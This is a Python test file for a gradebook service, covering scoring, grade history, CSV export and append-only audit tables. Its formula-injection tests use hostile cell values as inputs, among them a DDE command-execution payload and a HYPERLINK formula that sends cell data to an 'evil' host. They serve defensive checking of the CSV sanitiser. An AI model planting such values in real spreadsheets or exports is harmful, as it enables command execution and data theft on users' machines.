"""Scores, the gradebook, and how a grade came about."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from sqlalchemy import text, update
from sqlalchemy.exc import IntegrityError

from api.gradebook.policy import GradedAttempt, best_attempt
from api.gradebook.spreadsheet import neutral
from api.models import GradeChange, GradeReportRow


def _scores(school, who):
    return school.get(who, "/courses/dl/scores").json()


def test_the_best_attempt_counts_and_a_worse_one_takes_nothing_away(open_school):
    ids = []
    for number, score in enumerate((4.0, 8.0, 6.0)):
        ids.append(open_school.submit("ada", f"x = {number}\n".encode()))
        open_school.grade(score)
    (mine,) = _scores(open_school, "ada")
    assert (mine["score"], mine["attempts"], mine["best_submission_id"]) == (8.0, 3, ids[1])
    assert _scores(open_school, "bob")[0]["score"] is None
    assert open_school.get("ada", "/courses/dl/psets").json()[0]["my_score"] == 8.0
    assert open_school.get("bob", "/courses/dl/psets").json()[0]["my_score"] is None


def test_the_best_attempt_is_a_function_of_what_was_graded():
    assert best_attempt([]) is None
    attempts = [GradedAttempt("a", 1, 5.0), GradedAttempt("c", 3, 7.0), GradedAttempt("b", 2, 7.0)]
    best = best_attempt(attempts)
    assert best is not None
    assert best.submission_id == "b"
    assert best_attempt([GradedAttempt("zero", 1, 0.0)]) == GradedAttempt("zero", 1, 0.0)


def test_a_grade_tells_who_when_why_before_and_after(open_school, user_id):
    for number, score in enumerate((4.0, 3.0, 8.0)):
        open_school.submit("ada", f"x = {number}\n".encode())
        open_school.grade(score)
    path = f"/courses/dl/psets/pset1/students/{user_id('ada')}/history"
    history = open_school.get("tess", path).json()
    assert [(one["before"], one["after"], one["by"]) for one in history] == [
        (None, 4.0, None),
        (4.0, 8.0, None),
    ]
    assert "attempt 3" in history[1]["reason"]


def test_a_score_of_zero_is_a_score(open_school):
    open_school.submit("ada")
    open_school.grade(0.0)
    assert _scores(open_school, "ada")[0]["score"] == 0.0
    book = open_school.get("tess", "/courses/dl/gradebook").json()
    (ada,) = [row for row in book["rows"] if row["student"]["name"] == "Ada"]
    assert ada["scores"]["pset1"]["score"] == 0.0


def test_the_gradebook_has_every_student_and_no_staff(open_school):
    open_school.submit("ada")
    open_school.submit("tess")
    open_school.grade(5.5)
    open_school.submit("ada")
    book = open_school.get("tess", "/courses/dl/gradebook").json()
    assert book["psets"] == [{"name": "pset1", "title": "Two problems", "max_score": 10.0}]
    assert [row["student"]["name"] for row in book["rows"]] == ["Ada", "Bob"]
    ada, bob = book["rows"]
    assert (ada["scores"]["pset1"]["score"], ada["scores"]["pset1"]["attempts"], ada["total"]) == (
        5.5,
        2,
        5.5,
    )
    assert (bob["scores"]["pset1"], bob["total"]) == (None, 0.0)


def test_the_csv_is_a_plain_table(open_school):
    open_school.submit("ada")
    open_school.grade(7.25)
    answer = open_school.get("tess", "/courses/dl/gradebook.csv")
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert "attachment" in answer.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert rows == [
        ["name", "email", "pset1", "total"],
        ["Ada", "ada@example.org", "7.25", "7.25"],
        ["Bob", "bob@example.org", "", "0"],
    ]


@pytest.mark.parametrize(
    "name",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        " =HYPERLINK(1)",
        "|cmd",
        "%0A",
        "\uff1d1+1",
        "\n=1",
        '=cmd|" /C calc"!A0',
    ],
)
def test_no_cell_is_a_formula(name):
    cell = neutral(name)
    assert cell.startswith("'")
    assert cell.isprintable()


def test_ordinary_names_stay_as_they_are():
    for name in ("Ada Lovelace", "Müller-Lüdenscheidt", "O'Neill", "李", "x@example.org"):
        assert neutral(name) == name


@given(st.text(max_size=30))
def test_no_text_at_all_is_a_formula(name):
    assert not neutral(name).lstrip(" \"'\u00a0").startswith(("=", "@", "\t", "\r")) or neutral(
        name
    ).startswith("'")
    assert "\n" not in neutral(name)


def test_a_name_with_a_formula_is_neutral_in_the_csv(open_school):
    roster = 'name,email,role\n"=HYPERLINK(""http://evil/""&A1)",evil@example.org,student\n'
    open_school.call(
        "iris", "POST", "/courses/dl/roster", content=roster.encode(), headers={"Content-Type": "text/csv"}
    )
    rows = list(csv.reader(io.StringIO(open_school.get("tess", "/courses/dl/gradebook.csv").text)))
    assert '\'=HYPERLINK("http://evil/"&A1)' in [row[0] for row in rows]


@pytest.mark.parametrize("table", ["grade_reports", "grade_changes"])
@pytest.mark.parametrize("statement", ["DELETE FROM {}", "UPDATE {} SET id = 99"])
def test_the_database_itself_refuses_to_rewrite_history(open_school, table, statement):
    open_school.submit("ada")
    open_school.grade()
    with (
        pytest.raises(IntegrityError, match="append-only"),
        open_school.services.database.writing() as session,
    ):
        session.execute(text(statement.format(table)))


@pytest.mark.parametrize("table", [GradeReportRow, GradeChange])
def test_the_models_refuse_to_rewrite_history(open_school, table):
    open_school.submit("ada")
    open_school.grade()
    with pytest.raises(TypeError, match="append-only"), open_school.services.database.writing() as session:
        session.delete(session.query(table).first())
    with pytest.raises(IntegrityError), open_school.services.database.writing() as session:
        session.execute(update(table).values(id=99))
